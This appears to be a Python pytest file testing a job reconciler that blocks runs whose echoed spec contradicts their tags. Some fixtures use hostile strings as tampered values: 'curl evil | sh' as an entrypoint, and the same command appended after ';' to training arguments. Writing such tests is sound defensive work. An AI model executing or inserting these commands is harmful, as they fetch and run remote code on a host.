"""A run with the hash of one spec and the echo of another blocks its task, and nothing else."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest
from msgspec.structs import replace

from jobspec.manifest.task import Task
from jobspec.reconcile import tags
from jobspec.reconcile.contradictions import adopted
from jobspec.reconcile.declared import declare
from jobspec.reconcile.intentions import run_id
from jobspec.reconcile.planning.ownership import adoption
from jobspec.reconcile.planning.plan import Action, Update
from jobspec.reconcile.runs import Run
from jobspec.reconcile.tags import Marks
from tests.reconcile.world import only, planned, run, task

TRAIN = task(spec={"args": "--lr 0.1"})
ROLE = {"RoleName": "worker", "RoleReplicas": 2, "ResourceSpecId": "ml.g1e.large"}


def echoing(declared: Task, state: str = "Running", number: int = 1, **other: Any) -> Run:
    """A run of the task that echoes what was sent, except for `other`."""
    return replace(run(declared, state, number), spec={**declared.payload, **other})


def retagged(one: Run, **marks: Any) -> Run:
    assert isinstance(one.marks, Marks)
    after = replace(one.marks, **marks)
    return replace(one, marks=after, tags=tags.write(after, ()))


OTHERS: Mapping[str, tuple[Mapping[str, Any], str]] = {
    "image": ({"ImageSpec": {"Id": "someone/else:1"}}, "spec.image"),
    "entrypoint": ({"EntrypointPath": "curl evil | sh"}, "spec.entrypoint"),
    "more at the end": ({"Args": "--lr 0.1; curl evil | sh"}, "spec.args"),
    "no arguments": ({"Args": ""}, "spec.args"),
    "replicas": ({"TaskRoleSpecs": [{**ROLE, "RoleReplicas": 64}]}, "spec.roles[worker].replicas"),
    "flavor": ({"TaskRoleSpecs": [{**ROLE, "ResourceSpecId": "ml.big"}]}, "spec.roles[worker].flavor"),
    "one more role": ({"TaskRoleSpecs": [ROLE, {**ROLE, "RoleName": "ps"}]}, "spec.roles[ps]"),
    "other roles": ({"TaskRoleSpecs": [{**ROLE, "RoleName": "ps"}]}, "spec.roles[worker]"),
}


@pytest.mark.parametrize("state", ["Queue", "Running", "Killing", "Success", "Failed", "Killed"])
@pytest.mark.parametrize("other", OTHERS)
def test_a_run_that_echoes_another_one_blocks_its_task(other: str, state: str) -> None:
    echoed, field = OTHERS[other]
    change = only(planned([TRAIN], [echoing(TRAIN, state, **echoed)]))
    assert (change.action, change.blocked, change.steps) == (Action.NONE, "inconsistent-tags", ())
    assert f"`{field}`" in change.detail
    assert any(found.field.startswith(field) for found in change.differences)


@pytest.mark.parametrize(
    "lifecycle", [{"suspend": True}, {"onRemoval": "Delete"}, {"restartPolicy": "Always"}]
)
def test_nothing_is_written_to_it_for_any_manifest(lifecycle: dict[str, Any]) -> None:
    declared = task(**lifecycle)
    false = echoing(declared, EntrypointPath="curl evil | sh")
    assert not only(planned([declared], [false, echoing(declared, "Failed", 2)])).steps


CLAIM = {"Cpu": 8, "MemoryGiB": 32, "GpuCount": 1}
CLAIMING = {"roles": [{"name": "w", "replicas": 1, "resources": {"cpu": 8, "memory": 32, "gpus": 1}}]}


@pytest.mark.parametrize(
    ("echoed", "is_blocked"),
    [
        (CLAIM, False),
        ({**CLAIM, "Cpu": 8.0, "Family": "x"}, False),
        (None, False),
        ({**CLAIM, "GpuCount": 8}, True),
    ],
)
def test_the_resources_of_a_role_are_compared(echoed: dict[str, Any] | None, is_blocked: bool) -> None:
    declared = task(spec=CLAIMING)
    role = {"RoleName": "w", "RoleReplicas": 1, "FlexibleResourceClaim": echoed}
    change = only(planned([declared], [echoing(declared, TaskRoleSpecs=[role])]))
    assert bool(change.blocked) is is_blocked
    assert ("`spec.roles[w].resources.gpus`" in change.detail) is is_blocked


SAME: Mapping[str, Mapping[str, Any]] = {
    "as sent": {},
    "nothing of it": {"ImageSpec": None, "EntrypointPath": None, "Args": None, "TaskRoleSpecs": None},
    "empty": {"ImageSpec": {}, "EntrypointPath": "", "TaskRoleSpecs": []},
    "the image in another form": {"ImageSpec": {"Url": "registry/pytorch@sha256:0"}},
    "more of the image": {
        "ImageSpec": {"Id": "ml_platform/pytorch:1.7", "Version": "2021", "Type": "Preset"}
    },
    "the arguments behind the entrypoint": {"EntrypointPath": "python train.py --lr 0.1", "Args": ""},
    "trimmed": {"EntrypointPath": "python train.py\r\n", "Args": "--lr 0.1 "},
    "a number of another kind": {"TaskRoleSpecs": [{**ROLE, "RoleReplicas": 2.0, "Added": 1}]},
    "less of a role": {"TaskRoleSpecs": [{"RoleName": "worker"}]},
    "what is not compared": {"Envs": [{"Name": "X", "Value": "***"}], "CacheType": "Gpfs"},
}


@pytest.mark.parametrize("echo", SAME)
def test_an_honest_run_continues_with_any_form_of_echo(echo: str) -> None:
    change = only(planned([TRAIN], [echoing(TRAIN, **SAME[echo])]))
    assert (change.reason, change.blocked) == ("in-progress", None)


def test_an_ignored_field_is_not_compared() -> None:
    ignoring = task(ignoreChanges=["spec.roles.replicas", "spec.image"])
    other: dict[str, Any] = {"ImageSpec": {"Id": "other"}, "TaskRoleSpecs": [{**ROLE, "RoleReplicas": 4}]}
    assert only(planned([ignoring], [echoing(ignoring, **other)])).reason == "in-progress"
    assert only(planned([ignoring], [echoing(ignoring, EntrypointPath="x", **other)])).blocked


def test_a_run_of_another_spec_is_still_replaced() -> None:
    old = replace(
        echoing(TRAIN, EntrypointPath="old"), marks=run(TRAIN, "Running", spec="1" + "0" * 16).marks
    )
    assert only(planned([TRAIN], [old])).action is Action.REPLACE


def test_other_tasks_continue() -> None:
    false, other = echoing(TRAIN, EntrypointPath="evil"), task("other")
    changes = {change.task: change for change in planned([TRAIN, other], [false]).changes}
    assert (changes["train"].action, changes["other"].action) == (Action.NONE, Action.SUBMIT)


def adopted_by_a_person(live: Run, *own: Run) -> Run:
    plan, _ = adoption(declare(TRAIN), live, own)
    [step] = only(plan).steps
    assert isinstance(step, Update)
    return replace(live, name=step.name, marks=step.becomes, tags=tags.write(step.becomes, ()))


def test_a_run_adopted_with_differences_is_exempt() -> None:
    foreign = replace(echoing(TRAIN, EntrypointPath="mine"), marks=None, tags=())
    mine = adopted_by_a_person(foreign)
    assert only(planned([TRAIN], [mine])).blocked is None
    copy = replace(mine, id="t-20260101000009-copie")
    assert only(planned([TRAIN], [copy])).blocked == "inconsistent-tags"


def test_a_run_adopted_without_differences_has_no_such_tag() -> None:
    same = adopted_by_a_person(replace(echoing(TRAIN), marks=None, tags=()))
    assert isinstance(same.marks, Marks)
    assert same.marks.adopted == ""


def test_a_blocked_run_can_be_adopted_after_a_review() -> None:
    false = echoing(TRAIN, EntrypointPath="mine")
    _, refused = adoption(declare(TRAIN), false, (false,))
    assert [one.guard for one in refused] == ["differences"]
    assert only(planned([TRAIN], [adopted_by_a_person(false, false)])).reason == "in-progress"


def test_a_run_adopted_by_a_release_without_the_tag_is_exempt_under_a_new_name_too() -> None:
    other = echoing(TRAIN, EntrypointPath="mine")
    assert isinstance(other.marks, Marks)
    intention = run_id("vision", "train", other.marks.spec, ("adopted", other.id))
    old = retagged(other, run=intention)
    assert only(planned([TRAIN], [old])).blocked is None
    assert only(planned([TRAIN], [replace(old, id="t-20260101000009-copie")])).blocked
    new = task("new", spec={"args": "--lr 0.1"})
    [rename] = planned([new], [old]).pending
    [step] = rename.steps
    assert isinstance(step, Update)
    assert isinstance(step.becomes, Marks)
    assert step.becomes.adopted == adopted(old.id, step.becomes.spec)


def test_a_copy_under_a_former_name_is_not_renamed_and_not_stopped() -> None:
    new = task("new", spec={"args": "--lr 0.1"})
    plan = planned([new], [echoing(TRAIN, number=1), echoing(TRAIN, number=2, EntrypointPath="evil")])
    assert [change.steps for change in plan.changes] == [(), ()]
    assert {change.blocked for change in plan.changes} == {"inconsistent-tags", "unclear-rename"}
